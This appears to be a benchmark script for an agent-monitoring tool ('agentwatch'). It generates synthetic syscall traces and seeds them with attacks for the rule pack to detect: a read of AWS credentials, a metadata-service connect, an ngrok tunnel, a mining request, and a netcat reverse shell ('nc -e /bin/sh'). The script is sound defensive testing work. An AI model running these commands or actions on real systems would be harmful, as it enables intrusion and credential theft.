#!/usr/bin/python3
"""make bench-replay: events per second of `agentwatch replay` with the built-in pack.

Generates a trace of N events (default 1,000,000) shaped like an agent's work:
processes spawning and exec'ing, opens of libraries and sources, reads/writes,
connects and socket writes, DNS exchanges, exits; every ATTACK_EVERY rounds a
few attacks the pack must catch (a credential read, the metadata service, a
tunnel service reached by a name learnt from a DNS answer, a netcat shell, a
stratum request), so the verdicts are checked, not only the speed. Times
`agentwatch replay` over it with the built-in pack and with no rules (CPU time
of the child, wall time beside it), and `jq` selecting the same events (the
execs, connects and socket sends the pack looks at) as a yardstick. Prints the
alerts per rule; --compare OTHER_AGENTWATCH replays with another build too and
fails unless both give the same alerts. The trace is cached in /tmp between runs.
Usage: bench/replay.py [--events N] [--runs R] [--keep] [--compare BINARY]
"""
import collections
import hashlib
import tempfile
import argparse
import json
import os
import resource
import shutil
import subprocess
import sys
import time

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
AW = os.path.join(ROOT, ".build/release/agentwatch")
WALL0 = 1_795_881_030_215_206_113
# Rounds (about 23 events each) between two bursts of attacks.
ATTACK_EVERY = 500
TRACE_VERSION = 3
# What the live writer puts after every spawn and exec (/proc facts), and after an exec the image's fingerprint.
FACTS = {"pgid": 1000, "sid": 1000, "cap_eff": "0x0", "cap_prm": "0x0", "cap_inh": "0x0", "loginuid": 1000}


def binary(exe):
    digest = hashlib.sha256(exe.encode()).hexdigest()
    return {"sha256": digest, "format": "elf64", "machine": "x86_64", "build_id": digest[:40], "static": False,
            "stripped": True, "interpreter": "/lib64/ld-linux-x86-64.so.2", "markers": [], "size": 125640}


def dns_answer(name, ip):
    """A DNS response (one A record) as the trace writes payloads: one code point per byte."""
    q = b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0"
    msg = bytes([0x12, 0x34, 0x81, 0x80, 0, 1, 0, 1, 0, 0, 0, 0]) + q + bytes([0, 1, 0, 1])
    msg += bytes([0xC0, 0x0C, 0, 1, 0, 1, 0, 0, 0, 60, 0, 4]) + bytes(int(x) for x in ip.split("."))
    return msg.decode("latin-1")


def generate(path, n):
    """Writes n events (syscalls count their entry and exit as two numbers, as live)."""
    out = open(path, "w", buffering=1 << 20)
    out.write(json.dumps({"agentwatch_trace": 1, "version": "bench", "host": "bench", "command": ["agent"],
                          "start_wall": WALL0, "tracer_pid": 1, "dns_servers": ["127.0.0.53"]},
                         separators=(",", ":")) + "\n")
    seq = 0
    count = 0
    pid = 1000
    enc = json.JSONEncoder(separators=(",", ":")).encode

    def line(obj):
        nonlocal count
        out.write(enc(obj))
        out.write("\n")
        count += 1

    def base(p, ev):
        nonlocal seq
        seq += 1
        return {"seq": seq, "mono": seq * 1000, "wall": WALL0 + seq * 1000, "pid": p, "tid": p, "ev": ev}

    def syscall(p, sc, nr, args, ret, out_=None):
        e = base(p, "syscall")
        e.update({"sc": sc, "nr": nr, "args": args, "ret": ret})
        if out_:
            e["out"] = out_
        global_seq = seq + 1
        e["xseq"] = global_seq
        bump()
        line(e)

    def bump():
        nonlocal seq
        seq += 1

    at_fdcwd = {"flags": "AT_FDCWD", "raw": 18446744073709551516}
    rdonly = {"flags": "O_RDONLY|O_CLOEXEC", "raw": 524288}
    wronly = {"flags": "O_WRONLY|O_CREAT|O_TRUNC", "raw": 577}
    tcp = {"fd": 5, "type": "ipv4", "name": "10.0.0.2:40000->93.184.216.34:443", "proto": "tcp",
           "local": {"family": "inet", "addr": "10.0.0.2", "port": 40000},
           "remote": {"family": "inet", "addr": "93.184.216.34", "port": 443}}
    udp = {"fd": 4, "type": "ipv4", "name": "10.0.0.2:5353->127.0.0.53:53", "proto": "udp",
           "remote": {"family": "inet", "addr": "127.0.0.53", "port": 53}}
    def attacks():
        nonlocal pid
        # Credentials read by the agent itself; the metadata service; a tunnel service by its name.
        syscall(root, "openat", 257, {"dirfd": at_fdcwd, "filename": {"path": "/home/agent/.aws/credentials"}, "flags": rdonly}, 3,
                {"fd": {"fd": 3, "type": "file", "name": "/home/agent/.aws/credentials"}})
        meta = dict(tcp, name="10.0.0.2:40001->169.254.169.254:80", remote={"family": "inet", "addr": "169.254.169.254", "port": 80})
        syscall(root, "connect", 42, {"fd": meta, "addr": {"family": "inet", "addr": "169.254.169.254", "port": 80}}, 0)
        syscall(root, "recvfrom", 45, {"fd": udp, "size": 512, "flags": {"flags": "", "raw": 0}}, 61,
                {"data": {"data": dns_answer("x1.tcp.ngrok-agent.com", "3.134.39.220"), "len": 61},
                 "addr": {"family": "inet", "addr": "127.0.0.53", "port": 53}})
        ngrok = dict(tcp, name="10.0.0.2:40002->3.134.39.220:443", remote={"family": "inet", "addr": "3.134.39.220", "port": 443})
        syscall(root, "connect", 42, {"fd": ngrok, "addr": {"family": "inet", "addr": "3.134.39.220", "port": 443}}, 0)
        syscall(root, "write", 1, {"fd": tcp, "data": {"data": '{"id":1,"method":"mining.subscribe","params":[]}', "len": 48}, "count": 48}, 48)
        # A netcat handing a shell to a connection: killed at execve entry.
        pid += 1
        e = base(pid, "spawn")
        e.update({"ppid": root, "via": "fork", "exe": "/usr/bin/python3", "argv": ["python3", "agent.py"], "cwd": "/work", "uid": 1000, "comm": "python3", **FACTS})
        line(e)
        argv = ["nc", "-e", "/bin/sh", "10.0.0.9", "4444"]
        e = base(pid, "syscall")
        e.update({"sc": "execve", "nr": 59, "args": {"filename": {"path": "/usr/bin/nc"}, "argv": {"strv": argv}, "envp": {"hex": "0x7ffd0000"}}})
        line(e)
        e = base(pid, "exit")
        e.update({"signal": 9, "process": True})
        line(e)

    root = pid
    e = base(root, "spawn")
    e.update({"ppid": 1, "via": "root", "exe": "/usr/bin/python3", "argv": ["python3", "agent.py"], "cwd": "/work", "uid": 1000, "comm": "python3", **FACTS})
    line(e)
    tools = [("/usr/bin/git", ["git", "status"]), ("/usr/bin/cc", ["cc", "-O2", "-c", "main.c"]),
             ("/usr/bin/grep", ["grep", "-rn", "TODO", "src"]), ("/usr/bin/ls", ["ls", "-la"]),
             ("/bin/sh", ["sh", "-c", "make test"])]
    i = 0
    while count < n:
        i += 1
        if i % ATTACK_EVERY == 0:
            attacks()
        # The agent itself: reads sources, talks to its API, resolves names.
        for k in range(6):
            syscall(root, "openat", 257, {"dirfd": at_fdcwd, "filename": {"path": f"/work/src/file{k}.py"}, "flags": rdonly}, 3,
                    {"fd": {"fd": 3, "type": "file", "name": f"/work/src/file{k}.py"}})
            syscall(root, "close", 3, {"fd": {"fd": 3, "type": "file", "name": f"/work/src/file{k}.py"}}, 0)
        syscall(root, "sendto", 44, {"fd": udp, "data": {"data": "\u0012\u0034\u0001\u0000\u0000\u0001\u0000\u0000\u0000\u0000\u0000\u0000\u0003api\u0007example\u0003com\u0000\u0000\u0001\u0000\u0001", "len": 33},
                                      "flags": {"flags": "", "raw": 0}}, 33)
        syscall(root, "connect", 42, {"fd": tcp, "addr": {"family": "inet", "addr": "93.184.216.34", "port": 443}}, 0)
        syscall(root, "write", 1, {"fd": tcp, "data": {"data": "POST /v1/messages HTTP/1.1\r\nHost: api.example.com\r\n\r\n{\"model\":\"x\"}", "len": 64}, "count": 64}, 64)
        syscall(root, "mmap", 9, {"addr": {"hex": "0x0"}, "length": 1974096, "prot": {"flags": "PROT_READ", "raw": 1},
                                  "flags": {"flags": "MAP_PRIVATE|MAP_DENYWRITE", "raw": 2050}, "fd": {"fd": 3, "type": "file", "name": "/usr/lib/x86_64-linux-gnu/libc.so.6"}, "offset": {"hex": "0x0"}}, 139634298720256)
        # A tool run: fork, exec, a few opens and writes, exit.
        pid += 1
        exe, argv = tools[i % len(tools)]
        e = base(pid, "spawn")
        e.update({"ppid": root, "via": "fork", "exe": "/usr/bin/python3", "argv": ["python3", "agent.py"], "cwd": "/work", "uid": 1000, "comm": "python3", **FACTS})
        line(e)
        entry = seq + 1
        e = base(pid, "syscall")
        e.update({"sc": "execve", "nr": 59, "args": {"filename": {"path": exe}, "argv": {"strv": argv}, "envp": {"hex": "0x7ffd0000"}}, "ret": 0, "xseq": entry + 2})
        x = base(pid, "exec")
        x.update({"exe": exe, "path": exe, "argv": argv, "cwd": "/work", "comm": os.path.basename(exe), **FACTS,
                  "binary": binary(exe)})
        bump()
        line(x)
        line(e)
        for k in range(3):
            syscall(pid, "openat", 257, {"dirfd": at_fdcwd, "filename": {"path": "/etc/ld.so.cache"}, "flags": rdonly}, 3,
                    {"fd": {"fd": 3, "type": "file", "name": "/etc/ld.so.cache"}})
        syscall(pid, "openat", 257, {"dirfd": at_fdcwd, "filename": {"path": "/work/build/out.o"}, "flags": wronly}, 4,
                {"fd": {"fd": 4, "type": "file", "name": "/work/build/out.o"}})
        syscall(pid, "write", 1, {"fd": {"fd": 1, "type": "pipe", "name": "pipe:[4242]"}, "count": 120}, 120)
        e = base(pid, "exit")
        e.update({"code": 0, "process": True})
        line(e)
    out.close()
    return count


def cpu_of_child(cmd, stdout=subprocess.DEVNULL):
    before = resource.getrusage(resource.RUSAGE_CHILDREN)
    t0 = time.monotonic()
    p = subprocess.run(cmd, stdout=stdout, stderr=subprocess.PIPE)
    wall = time.monotonic() - t0
    after = resource.getrusage(resource.RUSAGE_CHILDREN)
    cpu = (after.ru_utime - before.ru_utime) + (after.ru_stime - before.ru_stime)
    return p.returncode, cpu, wall, p.stderr.decode(errors="replace")


def replay(binary, path, extra=(), alerts=None):
    """CPU and wall seconds of one replay, or an error string."""
    cmd = [binary, "replay", path, "--fail-on", "emergency"] + list(extra)
    if alerts:
        cmd += ["--alerts", alerts]
    rc, cpu, wall, err = cpu_of_child(cmd)
    if rc not in (0, 1):
        return None, None, f"{binary} replay exited {rc}: {err[-400:]}"
    return cpu, wall, None


def alert_digest(path):
    """Alerts per rule and a digest of every alert line (rule, pid, syscall, seq, fields...)."""
    per_rule = collections.Counter()
    h = hashlib.sha256()
    with open(path, "rb") as f:
        for raw in f:
            per_rule[json.loads(raw)["rule"]] += 1
            h.update(raw)
    return per_rule, h.hexdigest()[:16]


def trace_path(events, log=print):
    """The generated trace, made once and cached in /tmp (written under a temporary name first)."""
    path = f"/tmp/agentwatch-replay-bench-v{TRACE_VERSION}-{events}.jsonl"
    if not os.path.exists(path):
        t0 = time.monotonic()
        got = generate(path + ".tmp", events)
        os.rename(path + ".tmp", path)
        log(f"generated {got} events ({os.path.getsize(path) / 1e6:.0f} MB) in {time.monotonic() - t0:.1f}s: {path}")
    return path


def measure(events=1_000_000, runs=3, log=print, compare=None):
    """Replay throughput: {"events", "bytes", "path", "pack", "none", "jq", "alerts"}; each reader's
    {"cpu", "wall"} (best of runs by CPU), {"error"}, or None (jq missing); "alerts" is
    {"count", "digest", "per_rule"} of the replay with the pack (and "compare" when asked)."""
    path = trace_path(events, log)
    size = os.path.getsize(path)
    with open(path) as f:
        lines = sum(1 for _ in f) - 1
    log(f"trace: {lines} events, {size / 1e6:.0f} MB, {size // max(lines, 1)} bytes/event")
    res = {"events": lines, "bytes": size, "path": path}

    for key, label, extra in (("pack", "built-in pack", []), ("none", "no rules, --no-defaults", ["--no-defaults"])):
        best = None
        for _ in range(runs):
            cpu, wall, err = replay(AW, path, extra)
            if err:
                best = {"error": err}
                break
            if best is None or cpu < best["cpu"]:
                best = {"cpu": cpu, "wall": wall}
        res[key] = best
        if best.get("error"):
            log(f"agentwatch replay ({label}) failed: {best['error']}")
        else:
            log(f"agentwatch replay ({label}): {best['cpu']:.2f}s CPU, {best['wall']:.2f}s wall -> "
                f"{lines / best['cpu'] / 1e6:.2f}M events/s of CPU ({lines / best['wall'] / 1e6:.2f}M/s wall), best of {runs}")

    with tempfile.TemporaryDirectory() as tmp:
        mine = os.path.join(tmp, "alerts.jsonl")
        _, _, err = replay(AW, path, alerts=mine)
        if not err:
            per_rule, digest = alert_digest(mine)
            res["alerts"] = {"count": sum(per_rule.values()), "digest": digest, "per_rule": dict(per_rule)}
            log(f"alerts: {sum(per_rule.values())} (digest {digest}): " + ", ".join(f"{r} {c}" for r, c in sorted(per_rule.items())))
        if compare:
            theirs = os.path.join(tmp, "theirs.jsonl")
            cpu, _, err = replay(compare, path, alerts=theirs)
            if err:
                res["compare"] = {"error": err}
            else:
                other_rules, other_digest = alert_digest(theirs)
                res["compare"] = {"cpu": cpu, "digest": other_digest, "count": sum(other_rules.values())}
                log(f"{compare}: {cpu:.2f}s CPU -> {lines / cpu / 1e6:.2f}M events/s, alerts "
                    f"{sum(other_rules.values())} (digest {other_digest})")

    jq = shutil.which("jq")
    res["jq"] = None
    if jq:
        # The events the pack's rules look at: execs, connects and bytes sent on sockets.
        filt = 'select(.ev == "exec" or .sc == "execve" or .sc == "connect" or ((.sc == "write" or .sc == "sendto") and .args.data != null))'
        rc, cpu, wall, err = cpu_of_child([jq, "-c", filt, path])
        if rc != 0:
            res["jq"] = {"error": f"jq exited {rc}: {err[-300:]}"}
            log(f"jq failed ({rc}): {err[-300:]}")
        else:
            res["jq"] = {"cpu": cpu, "wall": wall}
            log(f"jq selecting the same events: {cpu:.2f}s CPU, {wall:.2f}s wall -> {lines / cpu / 1e6:.2f}M events/s of CPU")
    else:
        log("jq not installed (make deps installs it)")
    return res


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--events", type=int, default=1_000_000)
    ap.add_argument("--runs", type=int, default=3)
    ap.add_argument("--keep", action="store_true", help="keep the generated trace")
    ap.add_argument("--compare", metavar="BINARY", help="another agentwatch build that must give the same alerts")
    a = ap.parse_args()
    if not os.access(AW, os.X_OK):
        sys.exit("bench/replay.py: build first (make build)")
    res = measure(a.events, a.runs, compare=a.compare)
    failed = [k for k in ("pack", "none") if res[k].get("error")]
    if a.compare:
        c = res.get("compare", {})
        if c.get("error") or c.get("digest") != res.get("alerts", {}).get("digest"):
            failed.append("compare: the alerts differ from the other build's")
        else:
            print("same alerts as the other build")
    if not a.keep and a.events != 1_000_000:
        os.remove(res["path"])
    if failed:
        sys.exit("bench/replay.py: " + "; ".join(failed))


if __name__ == "__main__":
    main()
